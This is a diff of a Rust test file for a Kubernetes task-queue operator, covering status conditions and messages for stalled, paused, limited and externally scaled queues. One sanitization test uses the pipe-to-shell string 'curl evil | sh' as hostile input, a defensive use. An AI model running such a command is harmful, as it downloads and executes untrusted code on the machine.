@@ -1,18 +1,22 @@
+//! The conditions of single situations, and of all combinations of them.
+
 mod product;
 
 use std::sync::Arc;
 
-use rowlock_plan::{Memory, ObservedQueue, decide};
+use rowlock_crds::ScalingMode;
+use rowlock_plan::{Backlog, Memory, ObservedQueue, Runs, decide};
 use serde_json::json;
 
 use super::*;
+use crate::view::QueueSettings;
 
 /// The inputs of a healthy queue: two of two pods are ready.
 struct Scene {
     spec: TaskQueueSpec,
     problem: Option<Problem>,
     refused: Option<Error>,
-    looked: bool,
+    is_observed: bool,
     outcome: Outcome,
     foreign_scaling: Option<ForeignScaling>,
     deployment: serde_json::Value,
@@ -31,7 +35,7 @@ fn scene() -> Scene {
         spec: TaskQueueSpec::with_workers(20),
         problem: None,
         refused: None,
-        looked: true,
+        is_observed: true,
         outcome: Outcome::Done,
         foreign_scaling: None,
         deployment: json!({ "metadata": { "generation": 1 }, "status": counts }),
@@ -43,14 +47,21 @@ fn scene() -> Scene {
 
 fn decided(scene: Scene) -> Vec<NewCondition> {
     let observed = ObservedQueue { pods: 2, ..ObservedQueue::of(&scene.spec) };
-    let view = scene.looked.then(|| QueueView {
+    decided_on(scene, &observed)
+}
+
+fn decided_on(scene: Scene, observed: &ObservedQueue) -> Vec<NewCondition> {
+    let view = scene.is_observed.then(|| QueueView {
         name: "emails".into(),
         owner: Some("c1/shop/letters".into()),
         limit: None,
         refused: scene.refused.map(Arc::new),
         stats: None,
         instances: 2,
-        decision: decide(&observed, Memory::default(), std::time::Duration::ZERO),
+        ready: 2,
+        draining: 0,
+        settings: QueueSettings::default(),
+        decision: decide(observed, Memory::default(), std::time::Duration::ZERO),
         metrics: Vec::new(),
     });
     let deployment = serde_json::from_value(scene.deployment).unwrap();
@@ -91,7 +102,7 @@ fn problem(reason: Reason) -> Problem {
     Problem::new(reason, "so")
 }
 
-/// Before, the message of an API server or a Deployment stood unchanged in the status.
+/// Before, the message of an API server or a Deployment was copied unchanged to the status.
 #[test]
 fn foreign_text_is_one_line_that_looks_like_no_command() {
     let evil = "no `curl evil | sh`\nx";
@@ -125,15 +136,15 @@ fn a_problem_that_needs_a_change_is_stalled() {
     for reason in
         [Reason::SecretNotFound, Reason::SecretInvalid, Reason::AccessDenied, Reason::DatabaseUnsupported]
     {
-        check(Scene { problem: Some(problem(reason)), looked: false, ..scene() }, "fftfutuu", reason);
+        check(Scene { problem: Some(problem(reason)), is_observed: false, ..scene() }, "fftfutuu", reason);
     }
     check(
-        Scene { problem: Some(problem(Reason::SchemaTooNew)), looked: false, ..scene() },
+        Scene { problem: Some(problem(Reason::SchemaTooNew)), is_observed: false, ..scene() },
         "ffttftuu",
         Reason::SchemaTooNew,
     );
     check(
-        Scene { problem: Some(problem(Reason::Forbidden)), looked: false, ..scene() },
+        Scene { problem: Some(problem(Reason::Forbidden)), is_observed: false, ..scene() },
         "fftuutuu",
         Reason::Forbidden,
     );
@@ -145,6 +156,10 @@ fn a_problem_that_needs_a_change_is_stalled() {
         Reason::TemplateRejected,
     );
     check(Scene { outcome: Outcome::Foreign("no".into()), ..scene() }, "ffttttff", Reason::OwnedByAnother);
+    let missing = Outcome::Unsuitable(Reason::TargetNotFound, "no".into());
+    check(Scene { outcome: missing, ..scene() }, "ffttttff", Reason::TargetNotFound);
+    let differs = Outcome::Mismatch("slots".into());
+    check(Scene { outcome: differs, ..scene() }, "tfttttff", Reason::Succeeded);
     let hint = Some("adopt".into());
     let refused = Error::Refused { code: NOT_THE_OWNER.into(), message: "another's".into(), hint };
     let owned_by_another = Scene { refused: Some(refused), ..scene() };
@@ -157,11 +172,15 @@ fn a_problem_that_needs_a_change_is_stalled() {
 #[test]
 fn a_problem_that_may_pass_is_not_stalled() {
     check(
-        Scene { problem: Some(problem(Reason::ConnectionFailed)), looked: false, ..scene() },
+        Scene { problem: Some(problem(Reason::ConnectionFailed)), is_observed: false, ..scene() },
         "ftffutuu",
         Reason::ConnectionFailed,
     );
-    check(Scene { looked: false, outcome: Outcome::NotTried, ..scene() }, "utfuutuu", Reason::NotObserved);
+    check(
+        Scene { is_observed: false, outcome: Outcome::NotTried, ..scene() },
+        "utfuutuu",
+        Reason::NotObserved,
+    );
     check(Scene { outcome: Outcome::Failed("late".into()), ..scene() }, "ttftttff", Reason::Succeeded);
 }
 
@@ -194,7 +213,7 @@ fn the_admission_plugin_that_rejects_pods_is_named_with_a_remedy() {
     ] {
         let failure = json!([{ "type": "ReplicaFailure", "status": "True", "message": detail }]);
         let deployment = json!({ "metadata": { "generation": 1 }, "status": { "conditions": failure } });
-        // Pods that run go on.
+        // Running pods keep working.
         for (ready, expected) in [(0, false), (2, true)] {
             let inputs = Scene { deployment: deployment.clone(), health: healthy(ready, ready), ..scene() };
             let NewCondition { holds, reason, message, .. } = decided(inputs).swap_remove(0);
@@ -243,20 +262,39 @@ fn a_paused_queue_is_not_ready_and_not_stalled() {
     check(paused, "ffftttff", Reason::Paused);
 }
 
-/// Before, only an event said so, and the status looked healthy.
+/// Before, only an event reported this, and the status looked healthy.
 #[test]
 fn a_foreign_field_manager_that_scales_is_named_with_what_to_change() {
     let managers = vec!["kube-controller-manager".to_owned(), "keda".to_owned()];
-    let foreign_scaling = ForeignScaling { managers, found: 5, wanted: 2 };
-    let contested = Scene { foreign_scaling: Some(foreign_scaling), ..scene() };
-    let condition = decided(contested).pop().unwrap();
+    let contested = |mode: ScalingMode| {
+        let foreign_scaling = ForeignScaling { managers: managers.clone(), found: 5, wanted: 2, mode };
+        decided(Scene { foreign_scaling: Some(foreign_scaling), ..scene() }).pop().unwrap()
+    };
+    let condition = contested(ScalingMode::Auto);
     assert_eq!((condition.holds, condition.reason), (Some(true), Reason::ForeignFieldManager));
     for part in ["keda had set 5 pods", "asks for 2", "workers.scaling to External", "kind TaskQueue"] {
         assert!(condition.message.contains(part), "{part}: {}", condition.message);
     }
+    // Before the fix, this advised External to a queue that has it already.
+    let message = contested(ScalingMode::External).message;
+    assert!(message.contains("is External, scale the TaskQueue instead: let the"), "{message}");
+    assert!(!message.contains("set workers.scaling"), "{message}");
     let mut left = scene();
     left.spec.suspend_scaling = true;
     check(left, "tfftttff", Reason::Succeeded);
+}
+
+#[test]
+fn a_queue_whose_runs_fail_says_how_to_see_the_errors() {
+    let runs = Runs { failed: 20, ..Runs::default() };
+    let stats = Backlog { available: 500, runs, ..Backlog::default() };
+    let mut spec = TaskQueueSpec::with_workers(200);
+    spec.workers.autoscaling = Some(rowlock_crds::AutoscalingSpec::default());
+    let observed = ObservedQueue { pods: 2, ready: 2, stats: Some(stats), ..ObservedQueue::of(&spec) };
+    let condition = decided_on(scene(), &observed).into_iter().find(|one| one.type_ == Type::ScalingLimited);
+    let condition = condition.unwrap();
+    assert_eq!((condition.holds, condition.reason), (Some(true), Reason::Failing));
+    assert!(condition.message.contains("rowlock tasks --state retryable --queue emails"), "{condition:?}");
 }
 
 #[test]
@@ -264,7 +302,7 @@ fn what_limits_an_external_number_is_named() {
     let external = |replicas: u32| {
         let mut scene = scene();
         (scene.spec.workers.scaling, scene.spec.workers.replicas) =
-            (Some(rowlock_crds::ScalingMode::External), Some(replicas));
+            (Some(ScalingMode::External), Some(replicas));
         scene
     };
     let limited = |scene: Scene| {
@@ -279,6 +317,19 @@ fn what_limits_an_external_number_is_named() {
     let (holds, reason, message) = limited(external(9));
     assert_eq!((holds, reason), (Some(true), Reason::Total));
     assert!(message.contains("asks for 9 pods, and workers.total (20) allows 2"), "{message}");
+    // Before the fix, nobody said that a number is left over, until the TaskQueue was restored from a backup.
+    let mut auto = external(9);
+    auto.spec.workers.scaling = None;
+    let (holds, reason, message) = limited(auto);
+    assert_eq!((holds, reason), (Some(false), Reason::NotLimited));
+    assert!(
+        message.contains("workers.replicas (9) is left over") && message.contains("-n shop"),
+        "{message}"
+    );
+    let held = ObservedQueue { suspend_scaling: true, ..ObservedQueue::of(&external(9).spec) };
+    let mut held = decided_on(external(9), &held);
+    held.retain(|one| one.type_ == Type::ScalingLimited);
+    assert_eq!(held[0].message, "the number of pods stays as it is: see Stalled");
     let mut left = external(9);
     left.spec.suspend_scaling = true;
     let (holds, reason, message) = limited(left);
